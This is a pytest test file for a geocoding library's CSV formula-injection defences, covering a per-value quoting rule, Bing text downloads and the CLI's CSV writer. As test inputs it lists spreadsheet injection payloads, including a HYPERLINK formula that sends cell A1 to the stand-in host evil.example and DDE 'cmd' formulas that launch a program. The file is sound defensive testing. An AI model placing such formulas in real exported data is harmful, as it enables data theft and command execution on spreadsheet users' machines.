"""Formula-injection neutralisation (OWASP "CSV Injection") of CSV-like outputs: the rule for one
value, the Bing text downloads, and the CLI's CSV writer."""

from __future__ import annotations

import csv
import io

import pytest

from geobatch.formats.batch import BatchRow
from geobatch.formats.bing import BingCodec
from geobatch.formats.excelsafe import is_formula_like, neutralise, neutralise_raw_cell
from geobatch.formats.plaincsv import CsvWriter
from geobatch.model import (
    Address,
    Answer,
    BoundingBox,
    Confidence,
    EntityType,
    GeocodeResult,
    MatchCode,
    Point,
    ResultStatus,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "- Main Street",
    "-122.1abc",
    "+41 79 555 00 00",
]
NUMBERS = ["-122.1", "-0.5", "+41", "-.5", "-1e-3", "+2.5E+10", "47.673099", "0", "-0"]
PLAIN = ["", "Vaduz", "1 Main St", "'=already", " =1+1", "A=1", '[{"Latitude":"-1"}]']


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_triggers_get_a_quote(value: str) -> None:
    assert is_formula_like(value)
    assert neutralise(value) == "'" + value
    assert neutralise(neutralise(value)) == neutralise(value)  # applying twice changes nothing


@pytest.mark.parametrize("value", NUMBERS + PLAIN)
def test_numbers_and_ordinary_text_are_left_alone(value: str) -> None:
    assert not is_formula_like(value)
    assert neutralise(value) == value


def test_a_quoted_raw_cell_gets_its_quote_inside() -> None:
    assert neutralise_raw_cell('"=1+1"') == '"\'=1+1"'
    assert neutralise_raw_cell(" =1+1") == " =1+1"
    assert neutralise_raw_cell("=1+1") == "'=1+1"
    assert neutralise_raw_cell('"-5"') == '"-5"'


# --- Bing csv / tab / pipe downloads -------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example")'
RESULT = GeocodeResult(
    point=Point(47.6, -122.1),
    address=Address(street="=cmd|' /C calc'!A0", locality="@Town", country="-Land"),
    entity_type=EntityType.ADDRESS,
    confidence=Confidence.HIGH,
    match_codes=(MatchCode.GOOD,),
    bbox=BoundingBox(47.5, -122.2, 47.7, -122.0),
    name="+Name",
)


def _download(data: str, fmt: str, *, excel_safe: bool) -> tuple[list[BatchRow], str]:
    codec = BingCodec(excel_safe=excel_safe)
    batch = codec.decode(io.BytesIO(data.encode()), fmt)
    rows = list(batch.rows())
    out = io.BytesIO()
    pairs = [(row, Answer(ResultStatus.OK, (RESULT,))) for row in rows if row.fault is None]
    codec.encode(out, batch.header, pairs, "succeeded")
    return rows, out.getvalue().decode()


@pytest.mark.parametrize(("fmt", "d"), [("csv", ","), ("tab", "\t"), ("pipe", "|")])
def test_bing_v2_text_download_is_neutralised_but_numbers_are_not(fmt: str, d: str) -> None:
    columns = [
        "Id",
        "GeocodeRequest/Query",
        "=EvilColumn",
        "GeocodeResponse/Address/Locality",
        "GeocodeResponse/Name",
        "GeocodeResponse/Point/Latitude",
        "GeocodeResponse/Point/Longitude",
        "GeocodeResponse/BoundingBox/WestLongitude",
    ]
    data = f"Bing Spatial Data Services, 2.0\n{d.join(columns)}\n@1{d}{EVIL}{d}-x\n"
    _, safe = _download(data, fmt, excel_safe=True)
    header, line = safe.splitlines()[1:]
    assert header.split(d)[2] == "'=EvilColumn"
    cells = next(csv.reader([line], delimiter=d))
    assert cells == ["'@1", "'" + EVIL, "'-x", "'@Town", "'+Name", "47.6", "-122.1", "-122.2"]
    _, raw = _download(data, fmt, excel_safe=False)
    header, line = raw.splitlines()[1:]
    assert header == d.join(columns)
    assert next(csv.reader([line], delimiter=d))[:5] == ["@1", EVIL, "-x", "@Town", "+Name"]


def test_bing_v1_text_download_is_neutralised() -> None:
    _, safe = _download(f"=1,en-US,{EVIL}\n", "csv", excel_safe=True)
    cells = next(csv.reader([safe]))
    assert len(cells) == 31
    assert cells[:3] == ["'=1", "en-US", "'" + EVIL]
    assert cells[12] == "'=cmd|' /C calc'!A0"  # the result's AddressLine, from the index
    assert cells[20:22] == ["47.6", "-122.1"]  # the rooftop point, untouched


def test_bing_xml_download_is_never_changed() -> None:
    data = (
        '<GeocodeFeed Version="2.0"><GeocodeEntity Id="=1"><GeocodeRequest Query="=1+1"/>'
        "</GeocodeEntity></GeocodeFeed>"
    )
    _, out = _download(data, "xml", excel_safe=True)
    assert 'Id="=1"' in out and 'Query="=1+1"' in out


# --- the CLI's CSV writer ---------------------------------------------------------------------


def test_csv_writer_neutralises_by_default_and_not_when_asked() -> None:
    row = ["=1+1", "-122.1", "-x", "plain", "@a"]
    out = io.StringIO()
    CsvWriter(out, ",").writerow(row)
    assert out.getvalue() == "'=1+1,-122.1,'-x,plain,'@a\n"
    out = io.StringIO()
    CsvWriter(out, ";", excel_safe=False).writerow(row)
    assert out.getvalue() == "=1+1;-122.1;-x;plain;@a\n"
